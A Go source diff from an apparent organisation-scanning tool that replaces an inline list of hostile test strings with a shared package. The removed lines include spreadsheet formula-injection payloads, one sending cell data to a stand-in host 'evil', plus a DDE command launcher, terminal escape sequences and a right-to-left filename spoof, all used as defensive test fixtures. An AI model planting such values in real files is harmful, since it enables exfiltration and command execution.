@@ -12,6 +12,7 @@ import (
 	"unicode"
 	"unicode/utf8"
 
+	"github.com/orgscan/orgscan/internal/hostiletext"
 	"github.com/orgscan/orgscan/pkg/checks"
 	"github.com/orgscan/orgscan/pkg/finding"
 	"github.com/orgscan/orgscan/pkg/history"
@@ -23,19 +24,7 @@ import (
 // or call a security group: spreadsheet formulas, terminal escapes (a
 // screen clear, an OSC-8 hyperlink), line breaks, a right-to-left
 // override, invalid UTF-8.
-var memberText = []string{
-	`=HYPERLINK("http://evil/?d="&A1,"open")`,
-	`+cmd|' /C calc'!A0`,
-	`-2+3`,
-	`@SUM(1)`,
-	"\tTAB",
-	"\rCR",
-	"\x1b[2J\x1b[H fake row",
-	"a\nb\nc",
-	"\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\",
-	"\u202eevil.exe",
-	"\xff\xfe",
-}
+var memberText = hostiletext.Strings
 
 // credit is a negative monthly cost: a number, which CSV must not prefix.
 const credit = -1218.3
